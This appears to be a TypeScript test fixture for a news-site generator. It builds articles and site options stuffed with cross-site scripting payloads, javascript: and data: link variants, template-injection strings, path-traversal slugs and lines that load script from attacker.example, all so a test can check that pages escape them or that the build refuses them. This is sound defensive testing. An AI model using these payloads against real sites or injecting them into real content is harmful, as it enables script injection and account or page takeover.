import { NAUGHTY_STRINGS } from "./hostile-texts.ts";

/** A story that is out to break the page it is printed on. */
export interface HostileStory {
	/** Last part of its address, and of its file's name. */
	readonly slug: string;
	readonly headline: string;
	/** The whole article file. */
	readonly text: string;
}

/** Options whose every name is an attack; sections and authors that the stories use among them. */
export const HOSTILE_OPTIONS = {
	publication: {
		name: `The "Courier" </title><script>alert("name")</script>`,
		url: "https://courier.example",
		language: "en-GB",
		timeZone: "Europe/London",
		description: `<img src=x onerror=alert("publication")> & '"{{ 7 * 7 }}`,
	},
	sections: {
		hostile: {
			name: "<svg onload=alert(1)>",
			description: `"><script>alert("section")</script>`,
		},
	},
	authors: {
		mallory: {
			name: `Mallory "><img src=x onerror=alert(1)>`,
			jobTitle: "</script><script>alert(1)</script>",
			description: "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
		},
	},
	// Every story is wanted on every list and in every feed.
	lists: { size: 1000 },
	feeds: { limit: 1000 },
};

/** The stories that must be printed, and harmlessly. */
export function hostileStories(): HostileStory[] {
	return [
		...NAUGHTY_STRINGS.filter((text) => !isInvisible(text)).map((text, index) => naughtyStory(text, index)),
		...PAYLOADS.flatMap(payloadStories),
		...BODIES.map((body, index) => story(`body-${index}`, `Body ${index}`, {}, body)),
	];
}

/** The files of `hostileStories` by their path in the articles folder. */
export function hostileArticles(): Record<string, string> {
	return Object.fromEntries(hostileStories().map(({ slug, text }) => [`${slug}.md`, text]));
}

/** Files that a build must refuse, each for a reason of its own, by their path in the articles folder. */
export function refusedArticles(): Record<string, string> {
	const stories = [
		...NAUGHTY_STRINGS.filter(isInvisible).map((text, index) => story(`nothing-${index}`, text)),
		...REFUSED.map((keys, index) => story(`refused-${index}`, "Refused", keys)),
	];
	return Object.fromEntries(stories.map(({ slug, text }) => [`${slug}.md`, text]));
}

// YAML reads JSON, so that any text and any mapping can be written without a thought for quotes.
function story(slug: string, headline: string, keys: object = {}, body = "A sentence."): HostileStory {
	const frontMatter = { title: headline, date: "2026-03-01T09:30:00Z", section: "hostile", ...keys };
	const lines = Object.entries(frontMatter).map(([key, value]) => `${key}: ${JSON.stringify(value)}\n`);
	return { slug, headline, text: `---\n${lines.join("")}---\n${body}\n` };
}

function naughtyStory(text: string, index: number): HostileStory {
	return story(`naughty-${index}`, text, textsOf(text), text);
}

// A key for every place where a page prints text of an article as it was written.
function textsOf(text: string): object {
	return {
		description: text,
		// A person's name may not hold a comma, and no name may begin with "By".
		authors: ["mallory", { name: `© ${text}`, type: "organization" }],
		dateline: text,
		image: { src: "/picture.png", alt: text, caption: text, credit: text },
		corrections: [{ date: "2026-03-02T09:30:00Z", text }],
		sources: [{ title: text, url: "https://source.example/", publisher: text }],
		series: { name: text },
		copyright: text,
	};
}

function payloadStories(payload: string, index: number): HostileStory[] {
	// A comma would make several tags of one, and two tags that differ in punctuation alone are refused.
	const tags = [`${payload.replaceAll(",", ";")} ${index}`];
	return [
		story(`payload-${index}`, payload, { ...textsOf(payload), tags }, payload),
		story(`person-${index}`, payload, { authors: [{ name: payload.replace(/[,;]/g, "") }] }),
		story(`sponsored-${index}`, payload, { type: "sponsored", sponsor: payload }),
		story(`agency-${index}`, payload, { source: payload }),
		story(`summary-${index}`, payload, { description: payload, feed: "summary" }),
	];
}

// A reader would see no headline.
function isInvisible(text: string): boolean {
	return /^[\s\p{Cc}\p{Default_Ignorable_Code_Point}]*$/u.test(text);
}

const PAYLOADS: readonly string[] = [
	"</script><script>alert(1)</script>",
	"<!--<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	'"><svg onload=alert(1)>',
	"'><svg onload=alert(1)>",
	'x" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
	"x' onfocus='alert(1)' autofocus x='",
	"</title></head><body onload=alert(1)>",
	"</style><script>alert(1)</script>",
	"]]><script>alert(1)</script>",
	"--><script>alert(1)</script><!--",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;img src=x onerror=alert(1)&#62;",
	"<base href=https://attacker.example/>",
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	"<iframe src=javascript:alert(1)></iframe>",
	"javascript:alert(1)",
	"a\u2028alert(1)\u2029b",
	"\u202Etxet desrever",
	'{{ range.constructor("return process")().exit(1) }}',
	'{{ "x" | safe }}{% raw %}',
	"<%= process.exit(1) %>",
	// biome-ignore lint/suspicious/noTemplateCurlyInString: this is what it looks like to a template literal.
	"${process.exit(1)}`",
	"__proto__ constructor",
];

const BODIES: readonly string[] = [
	// Links of Markdown, in the spellings that browsers understand.
	"[a](javascript:alert(1))",
	"[a](JaVaScRiPt:alert(1))",
	"[a](<javascript:alert(1)>)",
	"[a](< javascript:alert(1)>)",
	"[a](java&#115;cript:alert(1))",
	"[a](javascript&colon;alert(1))",
	"[a](&#x01;javascript:alert(1))",
	"[a](java&Tab;script:alert(1))",
	"[a](java&NewLine;script:alert(1))",
	"[a](\u0001javascript:alert(1))",
	"[a](\u00A0javascript:alert(1))",
	"[a](javascript://courier.example/%0Aalert(1))",
	"[a][b]\n\n[b]: javascript:alert(1)",
	"<javascript:alert(1)>",
	"![a](javascript:alert(1))",
	"[a](vbscript:msgbox(1))",
	"[a](data:text/html,<script>alert(1)</script>)",
	"[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"![a](<data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>>)",
	"[a](blob:https://courier.example/1)",
	"[a](view-source:javascript:alert(1))",
	"[a](feed:javascript:alert(1))",
	// Out of an attribute.
	'[a](https://courier.example/ "x\\" onmouseover=\\"alert(1)")',
	'[a](https://courier.example/"onmouseover="alert(1))',
	'![a" onerror="alert(1)](/picture.png)',
	'![a](/picture.png "x\\" onerror=\\"alert(1)")',
	'``` "><script>alert(1)</script>\n<script>alert(1)</script>\n```',
	"`<script>alert(1)</script>`",
	"| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
	// Raw HTML.
	"<script>alert(1)</script>",
	"<script src=https://attacker.example/x.js></script>",
	"<img src=x onerror=alert(1)>",
	"A word <img/src=x/onerror=alert(1)//",
	"<svg onload=alert(1)></svg>",
	"<svg><script>alert(1)</script></svg>",
	'<svg><a xlink:href="javascript:alert(1)"><text y="20">a</text></a></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg><svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>',
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	'<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
	'<a href="javascript:alert(1)">a</a>',
	'<a href="&#1;javascript:alert(1)">a</a>',
	'<a href="java\tscript:alert(1)">a</a>',
	'<a href="data:text/html,<script>alert(1)</script>">a</a>',
	"<form action=javascript:alert(1)><button formaction=javascript:alert(1)>a</button></form>",
	"<details open ontoggle=alert(1)><summary>a</summary></details>",
	"<input autofocus onfocus=alert(1)>",
	"<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	"<style>@import 'https://attacker.example/x.css';</style><link rel=stylesheet href=https://attacker.example/x.css>",
	"<base href=https://attacker.example/>",
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	"<template><script>alert(1)</script></template>",
	"<p id=newsroom name=newsroom><form id=document name=body><input name=attributes></form>",
	"</div></article></main></body></html><script>alert(1)</script>",
	"<!-- --!><script>alert(1)</script> -->",
	"<plaintext>",
	"<textarea><script>alert(1)</script>",
	// Template languages, of which articles run none.
	'{{ range.constructor("return process")().exit(1) }}',
	'{% include "../../package.json" %}\n\n{% raw %}',
	"<%= process.exit(1) %>",
	// The end of front matter, of CDATA and of a feed.
	"---\ntitle: Another\n---\n",
	"]]></content:encoded><script>alert(1)</script><![CDATA[",
];

const REFUSED: readonly object[] = [
	{ canonical: "javascript:alert(1)" },
	{ canonical: "data:text/html,<script>alert(1)</script>" },
	{ canonical: " JaVaScRiPt:alert(1)" },
	{ sources: [{ title: "A source", url: "javascript:alert(1)" }] },
	{ license: "javascript:alert(1)" },
	{ license: "//attacker.example/" },
	{ authors: [{ name: "Mallory", url: "javascript:alert(1)" }] },
	{ authors: [{ name: "Mallory", sameAs: ["javascript:alert(1)"] }] },
	{ image: { src: "javascript:alert(1)", alt: "" } },
	{ image: { src: "data:image/svg+xml,<svg onload=alert(1)>", alt: "" } },
	{ image: { src: "../../package.json", alt: "" } },
	{ image: { src: "/picture.png", alt: "", license: "javascript:alert(1)" } },
	{ image: { src: "/picture.png", alt: "", acquireLicensePage: "javascript:alert(1)" } },
	{ aliases: ["javascript:alert(1)"] },
	{ aliases: ["//attacker.example/"] },
	{ aliases: ["/../../outside/"] },
	{ slug: "../outside" },
	{ layout: "../../package" },
	{ language: "<script>" },
	{ id: "<script>alert(1)</script>" },
	{ permalink: "/{{ page.url }}/" },
];
